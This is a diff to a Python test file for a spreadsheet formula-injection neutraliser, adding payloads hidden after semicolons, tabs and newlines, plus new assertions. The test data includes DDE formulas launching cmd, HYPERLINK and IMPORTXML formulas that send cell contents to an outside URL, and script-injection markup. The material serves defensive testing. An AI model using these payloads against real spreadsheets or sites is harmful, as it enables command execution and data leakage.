@@ -66,11 +66,22 @@ HOSTILE = (
     '"=1+1"',
     "\"'=1+1",
     "=cmd|' /C calc'!A0",
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=DDE("cmd";"/C calc";"x")',
     '=HYPERLINK("http://example.org/?"&A1,"Click")',
-    "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
     "-2+3+cmd|' /C calc'!A0",
-)  # fmt: skip
+    "@a;=1+1;b",
+)
+# Where the separator is a semicolon, the second part is a cell of its own, quotes or none.
+BEHIND = (
+    "a;=1+1",
+    "a; \u200b@SUM(A1)",
+    "a;b;-1+1",
+    "a\t=1+1",
+    "a\n=1+1",
+    'a";"=1+1',
+    "a;'=1",
+)
 MARKUP = (
     "<script>alert(1)</script>",
     '"><img src=x onerror=alert(1)>',
@@ -91,6 +102,8 @@ STARTS = tuple("=+-@＝＋－＠﹢﹣﹫﹦")
 
 
 def would_run(cell):
+    if any(would_run(part) for part in re.split(r"[;\t\r\n]", cell)[1:]):
+        return True
     if cell.startswith("'"):  # a spreadsheet takes the rest for text
         return False
     return cell.startswith(("\t", "\r", "\n")) or LEADERS.sub("", cell, count=1).startswith(STARTS)
@@ -155,13 +168,22 @@ def evil_settings():
 @pytest.mark.parametrize("text", HOSTILE)
 def test_a_hostile_text_is_neutralised_and_comes_back(text):
     assert would_run(text) or text.startswith("'")
-    assert neutral(text) == f"'{text}"
+    assert neutral(text).startswith("'") and not would_run(neutral(text))
+    assert neutral(text).replace("'", "") == text.replace("'", "")
+    assert plain(neutral(text)) == text
+
+
+@pytest.mark.parametrize("text", BEHIND)
+def test_a_formula_behind_another_separator_is_neutralised_and_comes_back(text):
+    assert would_run(text) or ";'" in text
+    assert not would_run(neutral(text))
+    assert len(neutral(text)) == len(text) + 1
     assert plain(neutral(text)) == text
 
 
 @given(
     st.text(st.characters(codec="utf-8"), max_size=12),
-    st.text(st.sampled_from([*UNSEEN, "'", " "]), max_size=4),
+    st.text(st.sampled_from([*UNSEEN, "'", " ", ";", "\n"]), max_size=4),
     st.sampled_from(["", *STARTS]),
 )
 def test_a_formula_behind_what_cannot_be_seen_is_neutralised(rest, unseen, start):
@@ -177,7 +199,8 @@ def test_no_text_runs_once_it_is_neutral_and_none_is_lost(text):
 
 
 @pytest.mark.parametrize(
-    "text", ["Côte d'Ivoire", "2021-06", "a=b", "12 %", "", "'tis", '"so"', "–", "(=1)"]
+    "text",
+    ["Côte d'Ivoire", "2021-06", "a=b", "12 %", "", "'tis", '"so"', "–", "(=1)", "a; b", ";"],
 )
 def test_a_harmless_text_is_left_as_it_is(text):
     assert neutral(text) == text
@@ -314,7 +337,7 @@ def test_every_csv_file_of_the_zip(downloads):
         if name.endswith(".csv"):
             cells = checked(found[name])
             assert any(cell.startswith("'") for cell in cells)
-    assert {f"'{text}" for text in HOSTILE if text == text.strip()} <= set(
+    assert {neutral(text) for text in HOSTILE if text == text.strip()} <= set(
         checked(found["evidence.csv"])
     )
 
